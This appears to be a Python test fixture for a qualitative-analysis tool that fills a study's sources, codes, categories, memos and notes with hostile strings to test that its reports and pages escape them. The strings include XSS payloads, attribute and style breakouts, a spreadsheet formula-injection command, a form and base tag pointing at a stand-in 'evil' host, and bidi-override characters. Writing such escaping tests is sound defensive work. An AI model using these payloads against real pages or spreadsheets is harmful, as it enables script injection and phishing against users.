"""A small study in which every name, note, memo and quote is hostile: what reports and pages of it are tested with."""

from __future__ import annotations

from qda.core.drafts import Draft, DraftSegment
from qda.ops.coding import coding
from qda.ops.theory import categories as axial
from qda.ops.theory import memos, relations, sampling, selective
from qda.ops.theory import negative_cases as negatives
from qda.store.project import Study
from qda.store.texts import intake

EVIL = '=1+1 <img src=x onerror=alert(1)> [red]*b*_i_`c` | # & &lt; \x1b[31m\u202e"](javascript:x)'
SOURCE = "=src <i>"
NAME = "=cmd|' /C calc'!A1 <script>alert(2)</script> [bold]x[/bold] *y* |z|"
BREAKING = (  # names that would leave an attribute, a style, a script or a comment, or turn the line around
    'x" onmouseover="alert(4)" onfocus="alert(4)" autofocus tabindex="1',
    "</style><style>*{display:none!important}</style>",
    "</script><script>alert(5)</script>",
    "--><svg onload=alert(6)><base href=http://evil/>",
    "};*{background:url(http://evil/b.png)}",
    "javascript:alert(7)",
    "<form action=http://evil><input name=find id=find>",
    "\u202eevil\u2066 turned \u200bline",
    "a long name of many words " * 400,
    "unbroken" * 1250,
)


def fill(study: Study) -> None:
    """Put in one source, two categories, a property, a relation, a memo and a storyline, all of them hostile."""
    text = f"Before. {EVIL} After."
    with study.change("import") as c:
        writer = intake.Writer(c)
        segments = [DraftSegment("post", 0, len(text), "<b>Eve</b> =2+2")]
        writer.add(SOURCE, Draft(SOURCE, text, "forum", language="en", segments=segments, sha256="x"))
        writer.flush()
    at = text.index(EVIL)
    for code in ("-code [red]", "@other"):
        coding.code(study, SOURCE, [code], span=f"{at}:{at + len(EVIL)}", note=EVIL)
    axial.category(study, NAME, ["-code [red]"], definition=EVIL)
    axial.category(study, "+plus", ["@other"])
    axial.property(study, NAME, "<p> *size*", low="=low", high="<high>")
    axial.place(study, 1, "<p> *size*", "low", note=EVIL)
    relations.relate(study, NAME, "causes", "+plus", supporting=[1], opposing=[2], note=EVIL)
    selective.judge(study, NAME, note=EVIL)
    links = (
        f"See [[category:+plus]] and [[coding:1]].\n\n{EVIL}\n\n<script>alert(3)</script>\n\n![x](http://evil/x.png)"
    )
    memos.add(study, links, title=EVIL.replace("\x1b", "").replace("\u202e", ""), on=[f"code:{'+plus'}", "coding:1"])
    memos.add(study, f"Saturation of {links}", type="theoretical", on=[f"category:{NAME}"])
    negatives.add(study, 1, f"category:{NAME}", EVIL)
    negatives.resolve(study, 1, "bounded", EVIL)
    sampling.add(study, EVIL, about=f"{NAME}/<p> *size*", seek=EVIL)
    sampling.close(study, 1, [SOURCE], changed=EVIL)
    selective.write(study, links)


def fill_more(study: Study) -> None:
    """Put in what tries to leave its place on a page: a post, a code, a note and a memo by each of `BREAKING`."""
    lines = [f"{n}. {name}" for n, name in enumerate(BREAKING)]
    text = "\n".join(lines)
    begins = [text.index(line) for line in lines]
    with study.change("import") as c:
        writer = intake.Writer(c)
        segments = [
            DraftSegment("post", begin, begin + len(line), BREAKING[n])
            for n, (begin, line) in enumerate(zip(begins, lines, strict=True))
        ]
        draft = Draft(BREAKING[0], text, "forum", title=BREAKING[1], language="en", segments=segments, sha256="y")
        writer.add(BREAKING[0], draft)
        writer.flush()
    for n, (begin, line) in enumerate(zip(begins, lines, strict=True)):
        # What a name may not have: marks of direction, more than 200 characters; in a code a slash parts a path.
        title = BREAKING[n].translate(dict.fromkeys(map(ord, "\u202e\u2066\u200b")))[:200].strip()
        code = title.replace("/", "⁄")
        coding.code(study, BREAKING[0], [code], span=f"{begin}:{begin + len(line)}", note=BREAKING[-n - 1])
        memos.add(study, BREAKING[n], title=title, on=[f"coding:{n + 3}"])
